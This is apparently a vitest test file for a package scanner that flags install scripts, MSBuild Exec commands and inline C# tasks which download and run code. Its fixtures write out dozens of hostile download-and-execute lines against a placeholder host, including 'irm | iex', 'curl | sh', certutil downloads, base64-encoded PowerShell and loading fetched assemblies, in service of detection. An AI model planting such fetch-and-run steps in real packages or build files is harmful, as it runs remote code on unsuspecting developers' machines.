import { describe, expect, it } from 'vitest';
import { inspectedFiles } from './rich-package.js';

type Files = Record<string, string>;

const rules = ['init-script-download-and-run', 'inline-task-download-and-run'];

/** How loudly the package is said to run what it fetched; `-` where nothing is said. */
async function level(files: Files): Promise<string> {
  const { report } = await inspectedFiles(files);
  expect(report.assessment.notEvaluated).toEqual([]);
  const found = report.findings.filter(({ rule }) => rules.includes(rule));
  return found.map((finding) => finding.level).join(' ') || '-';
}

const init = (text: string, more: Files = {}): Files => ({ 'tools/init.ps1': text, ...more });
const target = (inside: string, outside = ''): string =>
  `<Project>${outside}<Target Name="T" BeforeTargets="Build">${inside}</Target></Project>`;
const build = (inside: string, outside = '', more: Files = {}): Files => ({
  'build/Fixture.Package.targets': target(inside, outside),
  ...more,
});
const execs = (...commands: string[]): string =>
  commands
    .map((c) =>
      c
        .replaceAll('&', '&amp;')
        .replaceAll('"', '&quot;')
        .replaceAll('>', '&gt;')
        .replaceAll('<', '&lt;'),
    )
    .map((c) => `<Exec Command="${c}" />`)
    .join('\n');
const inline = (code: string): Files => ({
  'build/Fixture.Package.targets': `<Project>
  <UsingTask TaskName="Warm" TaskFactory="RoslynCodeTaskFactory"
             AssemblyFile="$(MSBuildToolsPath)/Microsoft.Build.Tasks.Core.dll">
    <Task><Code Type="Fragment" Language="cs"><![CDATA[${code}]]></Code></Task>
  </UsingTask>
  <Target Name="Start" BeforeTargets="Build"><Warm /></Target>
</Project>`,
});

const u = 'https://files.test';
const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

describe('what a package script runs is what it fetched', () => {
  it.each([
    `$f = Join-Path $env:TEMP 'x.exe'\niwr ${u}/a -OutFile $f\n& $f`,
    `$f = Join-Path $env:TEMP 'stage'\niwr ${u}/a -OutFile $f\n$p = $f\nStart-Process $p`,
    `iwr ${u}/x.exe -OutFile "$env:TEMP\\x.exe"\n& (Join-Path $env:TEMP "x.exe")`,
    `iex (iwr ${u}/a).Content`,
    `irm ${u}/a | iex`,
    `irm ${u}/a |\n  Out-String |\n  iex`,
    `$code = (New-Object Net.WebClient).DownloadString('${u}/a')\niex $code`,
    `$r = iwr ${u}/a\nInvoke-Expression $r.Content`,
    `$bytes = (New-Object Net.WebClient).DownloadData('${u}/a')\n[Reflection.Assembly]::Load($bytes)`,
    `$wc = New-Object Net.WebClient\n$wc.DownloadFile('${u}/a', "$env:APPDATA\\u.exe")\nsaps "$env:APPDATA\\u.exe"`,
    `$p = @{ Uri = '${u}/a'; OutFile = "$env:TEMP\\x.exe" }\nInvoke-WebRequest @p\nsaps $env:TEMP\\x.exe`,
    `$b = (iwr ${u}/a).Content\n[IO.File]::WriteAllBytes($f, $b)\n& $f`,
    `iwr ${u}/a.zip -OutFile a.zip\nExpand-Archive a.zip -DestinationPath $d\n& "$d\\run.exe"`,
    `iwr ${u}/a.zip -OutFile a.zip\nExpand-Archive a.zip $env:TEMP\n& "$env:TEMP\\run.exe"`,
    `curl.exe -s -o $env:TEMP\\x.ps1 ${u}/a\npowershell -File $env:TEMP\\x.ps1`,
    `certutil -urlcache -f ${u}/a x.exe\nStart-Process x.exe`,
    `certutil -urlcache -f ${u}/a x.exe > $null\nStart-Process x.exe`,
    `cmd /c "curl -o %TEMP%\\x.exe ${u}/a && %TEMP%\\x.exe"`,
    `iwr ${u}/a -OutFile x.bin\nMove-Item x.bin y.exe\nStart-Process y.exe`,
    `powershell -c "iex (iwr ${u}/a)"`,
    `Start-Process powershell.exe -ArgumentList '-nop', '-enc', '${encoded(`$p = "$env:TEMP\\x"; iwr ${u}/a -OutFile $p; $b = [IO.File]::ReadAllBytes($p); [Reflection.Assembly]::Load($b)`)}'`,
  ])('%#: %s', async (text) => {
    expect(await level(init(text))).toBe('malicious');
  });
});

describe('what a package script runs may be what it fetched', () => {
  it.each([
    `iwr ${u}/a -OutFile $f\n& $program`,
    `iwr ${u}/a -OutFile a.json\niex (Get-Thing $x)`,
    `iwr ${u}/a -OutFile a.json\n& "$env:TEMP\\tool.exe"`,
    `$b = [Convert]::FromBase64String($text)\niex $b`,
    `iwr ${u}/a -OutFile a.json\nGet-Content notes.txt | iex`,
  ])('%#: %s', async (text) => {
    expect(await level(init(text))).toBe('suspicious');
  });
});

describe('what a package script runs has nothing to do with what it fetches', () => {
  it.each([
    `Import-Module (Join-Path $PSScriptRoot 'Fixture.psm1')\niwr ${u}/news.json -OutFile news.json`,
    `Import-Module "$toolsPath\\Fixture.psm1"; iwr ${u}/news.json`,
    `$module = Join-Path $toolsPath 'Fixture.psd1'\nImport-Module $module\n$news = irm ${u}/news\nWrite-Host $news.title`,
    `iwr ${u}/list.json -OutFile list.json\nStart-Process notepad`,
    `irm ${u}/usage\nStart-Process "https://docs.test/start"`,
    `$url = '${u}/readme.html'\niwr $url -OutFile readme.html\nStart-Process $url`,
    `Add-Type -AssemblyName System.Web\n$v = irm ${u}/version`,
    `$source = 'public class A { }'\nAdd-Type -TypeDefinition $source\n$v = irm ${u}/version`,
    `iwr ${u}/list.json -OutFile list.json\n& "$toolsPath\\tool.exe" --quiet`,
  ])('%#: %s', async (text) => {
    expect(await level(init(text))).toMatch(/^(?:note|-)$/);
  });
});

describe('what commands of a build file run', () => {
  const out = '<PropertyGroup><Out>$(TEMP)\\warm.exe</Out></PropertyGroup>';

  it.each([
    [execs(`curl -o x.exe ${u}/a`, 'x.exe'), ''],
    [execs(`curl -o $(Out) ${u}/a`, '$(Out) --quiet'), out],
    [execs(`curl -o $(Out) ${u}/a`, '$(TEMP)\\warm.exe'), out],
    [execs('$(Out) --quiet', `curl -o $(Out) ${u}/a`), out],
    [execs(`curl -sL ${u}/a | sh`), ''],
    [execs(`sh -c "$(curl -fsSL ${u}/a)"`), ''],
    [execs(`curl ${u}/a > /tmp/stage`, 'sh /tmp/stage'), ''],
    [execs(`wget -q -O stage ${u}/a && chmod +x stage && ./stage`), ''],
    [execs(`bash <(curl -s ${u}/a)`), ''],
  ])('is what they fetched: %#', async (commands, properties) => {
    expect(await level(build(commands, properties))).toBe('malicious');
  });

  it.each([
    [execs(`curl -o news.json ${u}/news`, '"$(MSBuildThisFileDirectory)..\\tools\\gen.exe" -q')],
    [execs(`curl -o news.json ${u}/news`, 'tools\\gen.exe')],
    [execs(`curl -o news.json ${u}/news`, './configure')],
    [execs(`curl -o news.json ${u}/news`, 'msbuild $(MSBuildProjectFullPath)')],
    [execs(`curl -o news.json ${u}/news`, '$(GeneratorPath) --quiet')],
  ])('is something else: %#', async (commands) => {
    expect(await level(build(commands))).toMatch(/^(?:note|-)$/);
  });
});

describe('what an inline task runs', () => {
  it.each([
    `var bytes = new System.Net.WebClient().DownloadData("${u}/a");\nSystem.Reflection.Assembly.Load(bytes);`,
    `var p = System.IO.Path.Combine(dir, "a");\nnew System.Net.WebClient().DownloadFile("${u}/a", p);\nvar info = new System.Diagnostics.ProcessStartInfo(p);\nSystem.Diagnostics.Process.Start(info);`,
    `var p = name; new System.Net.WebClient().DownloadFile(url, p);\nvar info = new System.Diagnostics.ProcessStartInfo();\ninfo.FileName = p;\nSystem.Diagnostics.Process.Start(info);`,
    `new System.Net.WebClient().DownloadFile(url, p);\nSystem.Diagnostics.Process.Start(p);`,
    `System.Reflection.Assembly.Load(new System.Net.WebClient().DownloadData("${u}/a"));`,
  ])('is what it fetched: %#', async (code) => {
    expect(await level(inline(code))).toBe('malicious');
  });

  it('is something else', async () => {
    const code = `new System.Net.WebClient().DownloadFile("${u}/a.xsd", schema);
var tool = System.IO.Path.Combine(home, "gen.exe");
System.Diagnostics.Process.Start(tool);`;
    expect(await level(inline(code))).toBe('note');
  });
});

describe('a program in several scripts', () => {
  const fetch = `iwr ${u}/a -OutFile "$env:TEMP\\x.exe"`;
  const start = 'Start-Process "$env:TEMP\\x.exe"';

  it.each([
    ['. "$PSScriptRoot\\lib\\fetch.ps1"', 'tools/lib/fetch.ps1'],
    ['& (Join-Path $toolsPath "fetch.ps1")', 'tools/fetch.ps1'],
    ['$here = Split-Path $MyInvocation.MyCommand.Path\n. "$here\\fetch.ps1"', 'tools/fetch.ps1'],
    ['. (Join-Path $installPath "scripts\\fetch.ps1")', 'scripts/fetch.ps1'],
    ['$f = Join-Path $toolsPath "fetch.ps1"\n& $f', 'tools/fetch.ps1'],
    ['powershell -NoProfile -File "$toolsPath\\fetch.ps1"', 'tools/fetch.ps1'],
    ['Import-Module (Join-Path $toolsPath "fetch.psm1")', 'tools/fetch.psm1'],
    ['iex (Get-Content "$toolsPath\\notes.txt" -Raw)', 'tools/notes.txt'],
  ])('is one: %s', async (call, path) => {
    expect(await level(init(`${call}\n${start}`, { [path]: `${fetch}\n` }))).toBe('malicious');
    expect(await level(init(start, { [path]: fetch }))).toBe('-');
  });

  it('runs where it was started from, however far', async () => {
    const files = init('. "$PSScriptRoot\\a.ps1"', {
      'tools/a.ps1': 'cmd /c "$PSScriptRoot\\b.cmd"',
      'tools/b.cmd': '@call %~dp0c.cmd\n',
      'tools/c.cmd': `curl -o %TEMP%\\x.exe ${u}/a\r\n%TEMP%\\x.exe\r\n`,
    });
    expect(await level(files)).toBe('malicious');
  });

  it('is one from a build file on', async () => {
    const commands = execs('"$(MSBuildThisFileDirectory)build.cmd" $(Configuration)');
    const files = build(commands, '', {
      'build/build.cmd': 'powershell -File "%~dp0helper.ps1"\r\n%TEMP%\\x.exe\r\n',
      'build/helper.ps1': `iwr ${u}/a -OutFile "$env:TEMP\\x.exe"`,
    });
    expect(await level(files)).toBe('malicious');
    const shell = build(execs('sh $(MSBuildThisFileDirectory)run.sh'), '', {
      'build/run.sh': '#!/bin/sh\n. "$(dirname "$0")/get.sh"\nsh /tmp/stage\n',
      'build/get.sh': `#!/bin/sh\ncurl -o /tmp/stage ${u}/a\n`,
    });
    expect(await level(shell)).toBe('malicious');
  });

  it('is not one with a script that nothing starts', async () => {
    const more = { 'tools/other.ps1': fetch };
    expect(await level(init(`Write-Host "see other.ps1"\n${start}`, more))).toBe('-');
  });

  it('is told to be unread where too many files start too many others', async () => {
    const each = Array.from({ length: 46 }, (_, i) => i);
    const commands = execs(...each.map((i) => `s${i}.cmd`));
    const files = Object.fromEntries([
      ...each.map((i) => [`build/s${i}.cmd`, 'whoami']),
      ...each.map((i) => [`build/t${i}.targets`, target(commands)]),
    ]);
    const { report } = await inspectedFiles(files);
    expect(report.assessment.verdict).toBe('incomplete');
    expect(report.assessment.notEvaluated[0]?.code).toBe('followedFiles');
  });

  it('ends where scripts call each other, and tells each act and each call once', async () => {
    const files = init(`. "$PSScriptRoot\\a.ps1"\n${fetch}\n${start}`, {
      'tools/a.ps1': '. "$PSScriptRoot\\init.ps1"\n. "$PSScriptRoot\\a.ps1"\nwhoami',
      'tools/install.ps1': '. "$PSScriptRoot\\a.ps1"',
    });
    const { report } = await inspectedFiles(files);
    const acts = report.scripts.filter(
      ({ path, surface }) => `${path} ${surface}` === 'tools/a.ps1 init-script',
    );
    expect(acts).toHaveLength(1);
    expect(acts[0]?.acts).toHaveLength(3);
    expect(report.behaviours.find(({ capability }) => capability === 'identity')?.calls).toBe(1);
  });
});
